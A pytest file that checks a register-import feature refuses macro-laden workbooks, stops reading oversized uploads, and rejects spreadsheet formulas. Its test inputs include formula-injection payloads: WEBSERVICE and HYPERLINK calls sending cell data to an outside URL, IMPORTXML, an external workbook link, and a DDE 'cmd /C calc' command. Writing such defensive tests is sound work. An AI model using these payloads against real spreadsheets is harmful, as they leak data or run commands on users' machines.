"""A register is a file that anybody can have sent to the office: nothing in it is run, worked out or fetched."""

import io
import zipfile

import pytest

from comity.agreements.bringing.lines import read_lines
from comity.agreements.bringing.rows import preview
from comity.partners.tables import LARGEST, NotATable
from tests.agreements.test_bringing import brought, workbook

ROWS = [["Title", "Partner", "Signed on"], ["Memorandum", "PA", "2021-04-16"]]
WITH_MACROS = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
PLAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"


def with_macros(rows, *, is_told):
    """A workbook with a project of macros inside; `is_told`: its list of parts says so, as that of an .xlsm does."""
    made = io.BytesIO()
    with zipfile.ZipFile(workbook(rows)) as was, zipfile.ZipFile(made, "w") as now:
        for name in was.namelist():
            part = was.read(name)
            if is_told and name == "[Content_Types].xml":
                part = part.replace(PLAIN.encode(), WITH_MACROS.encode())
            now.writestr(name, part)
        now.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Auto_Open" * 50)
    made.seek(0)
    return made


@pytest.mark.parametrize("is_told", [True, False])
def test_a_workbook_with_macros_under_another_name_is_read_without_them_or_refused(is_told):
    try:
        lines = read_lines(with_macros(ROWS, is_told=is_told), "register.xlsx")
    except NotATable as refusal:
        assert str(refusal)
    else:
        assert lines == ROWS


class Endless(io.RawIOBase):
    """A hundred megabytes, of which it is counted how many were read."""

    def __init__(self):
        self.read_bytes = 0

    def read(self, size=-1):
        size = 100 * 1024 * 1024 if size < 0 else size
        self.read_bytes += size
        return b"x" * size


def test_of_a_file_of_a_hundred_megabytes_no_more_is_read_than_shows_that_it_is_too_large():
    file = Endless()

    with pytest.raises(NotATable, match="5 MB"):
        read_lines(file, "register.csv")

    assert file.read_bytes == LARGEST + 1


@pytest.mark.parametrize(
    "formula",
    [
        '=WEBSERVICE("https://example.org/?"&A1)',
        '=HYPERLINK("https://example.org/?"&A1)',
        '=HYPERLINK("https://example.org/?"&A1,A1)',
        "=cmd|' /C calc'!A0",
        '=IMPORTXML("https://example.org/","//a")',
        "='https://example.org/[other.xlsx]Sheet1'!A1",
    ],
)
@pytest.mark.parametrize("is_workbook", [True, False])
def test_a_formula_that_fetches_is_neither_worked_out_nor_entered(office, formula, is_workbook):
    rows = [ROWS[0], [formula, *ROWS[1][1:]]]
    lines = read_lines(workbook(rows), "register.xlsx") if is_workbook else rows

    row = preview(brought(office, lines)).rows[0]

    assert str(row.state) == "refused"
    assert "formula" in " ".join(row.faults)


def test_of_a_link_the_words_are_read_and_its_address_is_kept_nowhere(office):
    rows = [ROWS[0], ['=HYPERLINK("https://example.org/secret","Memorandum")', *ROWS[1][1:]]]

    register = brought(office, read_lines(workbook(rows), "register.xlsx"))

    assert str(preview(register).rows[0].title) == "Memorandum"
    assert "example.org" not in str(register.lines)
